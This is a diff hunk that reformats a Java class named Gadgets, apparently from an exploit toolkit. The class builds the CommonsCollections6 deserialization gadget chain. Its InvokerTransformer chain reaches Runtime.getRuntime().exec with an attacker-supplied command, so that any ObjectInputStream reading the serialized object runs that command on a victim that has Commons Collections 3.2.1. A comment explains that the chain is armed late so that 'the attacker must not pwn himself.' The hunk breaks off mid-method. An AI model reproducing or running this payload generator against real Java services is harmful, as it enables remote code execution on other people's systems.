@@ -26,23 +26,23 @@ import java.util.Map;
  * 3.2.1 (before 3.2.2 disabled {@code InvokerTransformer} deserialization) is on the victim's class path.
  */
 public final class Gadgets {
-    private Gadgets() {
-    }
+    private Gadgets() {}
 
     /** A serialized object that runs {@code command} (executable first) when any {@code ObjectInputStream} reads it. */
     public static byte[] commonsCollections6(List<String> command) throws IOException, ReflectiveOperationException {
         Transformer[] armed = {
-                new ConstantTransformer(Runtime.class),
-                new InvokerTransformer("getMethod", new Class<?>[]{String.class, Class[].class},
-                        new Object[]{"getRuntime", new Class<?>[0]}),
-                new InvokerTransformer("invoke", new Class<?>[]{Object.class, Object[].class},
-                        new Object[]{null, new Object[0]}),
-                new InvokerTransformer("exec", new Class<?>[]{String[].class},
-                        new Object[]{command.toArray(String[]::new)}),
-                new ConstantTransformer(1),
+            new ConstantTransformer(Runtime.class),
+            new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {
+                "getRuntime", new Class<?>[0]
+            }),
+            new InvokerTransformer(
+                    "invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
+            new InvokerTransformer(
+                    "exec", new Class<?>[] {String[].class}, new Object[] {command.toArray(String[]::new)}),
+            new ConstantTransformer(1),
         };
         // Armed only after the map is built: putting the key hashes it here, and the attacker must not pwn himself.
-        ChainedTransformer chain = new ChainedTransformer(new Transformer[]{new ConstantTransformer(1)});
+        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
         Map<Object, Object> backing = new HashMap<>();
         @SuppressWarnings("unchecked")
         Map<Object, Object> lazy = LazyMap.decorate(backing, chain);
